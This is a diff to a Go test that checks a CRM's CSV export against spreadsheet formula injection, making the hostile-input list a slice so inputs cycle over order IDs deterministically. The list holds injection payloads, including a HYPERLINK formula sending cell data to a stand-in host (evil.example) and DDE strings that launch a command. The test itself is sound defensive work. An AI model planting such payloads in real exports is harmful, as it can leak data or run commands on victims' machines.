@@ -92,23 +92,19 @@ func TestExpressionBudgetsThroughTheAPI(t *testing.T) {
 func TestCSVExportIsSafe(t *testing.T) {
 	e := newSecEnv(t, secOpts{allowPrivate: true, emu: crmemu.Options{Seed: 10, Orders: 6}})
 	ids := e.emu.OrderIDs(crmemu.DemoKey)
-	hostile := map[string]string{
-		"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")": "",
-		"+1+cmd|' /C calc'!A0":                               "",
-		"-2+3":                                               "",
-		"@SUM(1+1)*cmd|' /C calc'!A0":                        "",
-		"\t=1+1":                                             "",
-		"\r=1+1":                                             "",
-		"Позвонить, \"домофон\" 12\nвторая строка": "",
+	hostile := []string{
+		"Позвонить, \"домофон\" 12\nвторая строка",
+		"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+		"+1+cmd|' /C calc'!A0",
+		"-2+3",
+		"@SUM(1+1)*cmd|' /C calc'!A0",
+		"\t=1+1",
+		"\r=1+1",
 	}
-	i := 0
-	for v := range hostile {
-		if err := e.emu.UpdateOrder(ids[i], crmemu.Change{Field: "customer_comment", Value: v}, crmemu.Change{Field: "last_name", Value: v}); err != nil {
+	for i, id := range ids {
+		v := hostile[i%len(hostile)]
+		if err := e.emu.UpdateOrder(id, crmemu.Change{Field: "customer_comment", Value: v}, crmemu.Change{Field: "last_name", Value: v}); err != nil {
 			t.Fatal(err)
-		}
-		i = (i + 1) % len(ids)
-		if i == 0 {
-			break
 		}
 	}
 	st, body := e.api("POST", "/api/v1/counters", e.token, `{"name":"Shop"}`)
@@ -141,7 +137,7 @@ func TestCSVExportIsSafe(t *testing.T) {
 				t.Errorf("a cell starts a formula: %q", cell)
 			}
 		}
-		for v := range hostile {
+		for _, v := range hostile[:min(len(hostile), len(ids))] {
 			// The comment normaliser trims surrounding white space first.
 			if strings.ContainsRune("=+-@\t\r", rune(v[0])) && (comment == "'"+v || comment == "'"+strings.TrimSpace(v)) {
 				seen++
